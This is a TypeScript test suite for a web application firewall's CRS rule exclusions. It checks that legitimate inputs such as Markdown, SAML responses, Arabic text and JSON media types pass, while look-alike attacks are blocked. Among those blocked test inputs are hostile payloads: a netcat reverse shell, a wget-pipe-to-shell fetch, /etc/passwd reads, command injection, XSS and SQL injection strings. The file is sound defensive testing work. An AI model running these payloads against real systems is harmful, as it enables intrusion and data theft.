/**
 * Palisade's default exclusions (src/waf/crs/palisade-rules.ts, 9500004–9500010 and 9500020) on the real
 * CRS at paranoia 1: the legitimate value each one is written for passes, and an attack shaped like it is
 * still blocked (an exclusion removes one value from a few rules, never a rule for the whole request).
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import {
  createWaf,
  crsRuleSet,
  DEFAULT_WAF_SETTINGS,
  evaluateRequest,
  type Verdict,
  type WafRequest,
} from '../src/waf/index.js'
import { CRS_RULES_DIR, crsAvailable } from './waf/crs-paths.js'
import { createFsSource } from './waf/fs-source.js'

const available = crsAvailable()
const skip = available.ok ? false : available.why
const waf = available.ok
  ? createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
  : undefined

/** A request as node:http hands it over: UTF-8 text as a byte string. */
function req(method: string, uri: string, type?: string, body?: string): WafRequest {
  const headers: Array<[string, string]> = [
    ['Host', 'api.example.com'],
    ['User-Agent', 'acme-sdk/1.0'],
    ['Accept', 'application/json'],
  ]
  const r: WafRequest = { method, uri, protocol: 'HTTP/1.1', headers, remoteAddr: '203.0.113.5' }
  if (type !== undefined && body !== undefined) {
    r.body = new Uint8Array(Buffer.from(body, 'utf8'))
    headers.push(['Content-Type', type], ['Content-Length', String(r.body.byteLength)])
  }
  return r
}
const json = (value: unknown, uri = '/api/notes'): WafRequest =>
  req('POST', uri, 'application/json', JSON.stringify(value))
const form = (fields: Record<string, string>): WafRequest =>
  req('POST', '/form', 'application/x-www-form-urlencoded', new URLSearchParams(fields).toString())

function verdict(r: WafRequest): Verdict {
  return evaluateRequest(waf!, r)
}
function assertAllowed(r: WafRequest): void {
  const v = verdict(r)
  assert.equal(
    v.action,
    'allow',
    `${r.uri}: ${JSON.stringify(v.matched.filter((m) => m.data).map((m) => [m.id, m.data]))}`,
  )
}
function assertBlocked(r: WafRequest, ruleId?: number): void {
  const v = verdict(r)
  assert.equal(v.action, 'block', r.uri)
  if (ruleId !== undefined) assert.ok(v.rules.includes(ruleId), `${ruleId} not in ${v.rules.join(',')}`)
}

test(
  'a repository webhook listing package.json passes; the same file name in a query or behind a traversal is blocked',
  { skip },
  () => {
    assertAllowed(
      json(
        { commits: [{ modified: ['package.json', 'web/yarn.lock', '.config/tsconfig.json'] }] },
        '/hooks/github',
      ),
    )
    assertBlocked(req('GET', '/download?file=package.json'), 930120)
    assertBlocked(json({ file: '../../app/package.json' }), 930120)
    assertBlocked(json({ file: '/etc/passwd' }), 930120)
  },
)

test(
  'Markdown with code spans, fences and tables passes; shell injection without Markdown is blocked',
  { skip },
  () => {
    assertAllowed(json({ body: 'Try `git log --oneline --graph | head -20` to see the branches.' }))
    assertAllowed(json({ body: 'Run it:\n```bash\nfor f in *.log; do gzip "$f"; done\n```\nfrom cron.' }))
    assertAllowed(json({ body: '| Column | Type |\n|---|---|\n| id | bigint |' }))
    assertBlocked(json({ host: '8.8.8.8; cat /etc/passwd' }))
    assertBlocked(form({ host: '127.0.0.1 && whoami' }))
    // command substitution glued to a separator stays a command (9500350), Markdown or not
    assertBlocked(json({ body: 'see the docs for x;`id` here' }), 9500350)
  },
)

test('a raster image data: URI passes; an HTML or SVG data: URI is still read', { skip }, () => {
  const png = Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10', 'latin1').toString('base64')
  assertAllowed(json({ avatar: `data:image/png;base64,${png}` }))
  assertBlocked(json({ link: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' }))
})

test('a SAML response passes; script inside a Base64 XML document is still blocked', { skip }, () => {
  const saml =
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.com</saml:Issuer></samlp:Response>'
  const b64 = (s: string): string => Buffer.from(s).toString('base64')
  assertAllowed(form({ SAMLResponse: b64(saml), RelayState: '/app' }))
  const evil = saml.replace('https://idp.example.com', '<script>alert(document.domain)</script>')
  assertBlocked(form({ SAMLResponse: b64(evil) }))
})

test('a sentence with a semicolon passes; a command after a semicolon is blocked', { skip }, () => {
  assertAllowed(form({ message: 'I think it would do; copy should reach us by the second post.' }))
  assertAllowed(json({ text: 'Shutdown at 22:00 tonight for maintenance; nc and ssh will be down too.' }))
  assertBlocked(form({ host: 'example.com; nc -e /bin/sh 203.0.113.7 4444' }))
  assertBlocked(form({ q: 'x; cat /etc/passwd' }))
})

test(
  'Arabic text passes 942100; a quote next to non-Latin text and full-width quotes are still read',
  { skip },
  () => {
    assertAllowed(form({ message: 'مرحبا، أود تغيير عنوان التوصيل إلى: شارع الملك فهد، الرياض' }))
    assertAllowed(json({ text: 'الاسم الكامل للمستخدم والعنوان' }))
    assertBlocked(form({ q: "مرحبا' OR '1'='1" }), 942100)
    assertBlocked(form({ q: 'مرحبا\uff07 OR 1=1--' }))
    assertBlocked(form({ q: 'شكر%27 OR true%2D%2D' }), 942100)
  },
)

test('an e-mail address as the last path segment passes 920440; a .com file does not', { skip }, () => {
  assertAllowed(req('GET', '/api/v1/users/ana%40example.com'))
  assertBlocked(req('GET', '/downloads/setup.com'), 920440)
})

test(
  'JSON text inside a value passes the command rules; a separator inside it is still read',
  { skip },
  () => {
    assertAllowed(form({ payload: '{"debug":false,"hosts":["a.example","b.example"]}' }))
    assertBlocked(form({ payload: '{"debug":false,"host":"x; cat /etc/passwd"}' }))
  },
)

test('JSON media types (+json, CSP reports) are allowed and parsed as JSON', { skip }, () => {
  for (const type of ['application/merge-patch+json', 'application/vnd.api+json', 'application/csp-report'])
    assertAllowed(req('POST', '/api/x', type, JSON.stringify({ a: { title: 'Hello' } })))
  const v = verdict(
    req(
      'PATCH',
      '/api/x',
      'application/merge-patch+json',
      JSON.stringify({ name: "x' UNION SELECT password FROM users--" }),
    ),
  )
  assert.equal(v.action, 'block')
  assert.ok(
    v.matched.some((m) => m.data.includes('json.name')),
    'read as a JSON argument',
  )
  // CSV is allowed and read cell by cell (test/waf-crs-default.test.ts); a type no processor reads is not
  assertAllowed(req('POST', '/api/import', 'text/csv', 'a,b\n1,2\n'))
  assertBlocked(req('POST', '/api/import', 'application/x-msgpack', '\x81\xa1a\x01'), 920420)
})

test(
  'URL-encoded payloads in multipart text fields are read decoded; file contents are not',
  { skip },
  () => {
    const part = (name: string, value: string, filename?: string): string =>
      `------b1\r\nContent-Disposition: form-data; name="${name}"${filename ? `; filename="${filename}"\r\nContent-Type: text/plain` : ''}\r\n\r\n${value}\r\n`
    const mp = (...parts: string[]): WafRequest =>
      req('POST', '/upload', 'multipart/form-data; boundary=----b1', `${parts.join('')}------b1--\r\n`)
    assertBlocked(mp(part('q', encodeURIComponent(';wget http://203.0.113.9/x.sh -O- | sh'))))
    assertBlocked(mp(part('q', encodeURIComponent('<script>alert(1)</script>'))))
    assertAllowed(
      mp(part('title', 'Report%20Q4'), part('file', '%3Cb%3Eraw%20bytes%3C%2Fb%3E 100%25', 'notes.txt')),
    )
    assertAllowed(mp(part('note', encodeURIComponent('union was a great select'))))
  },
)
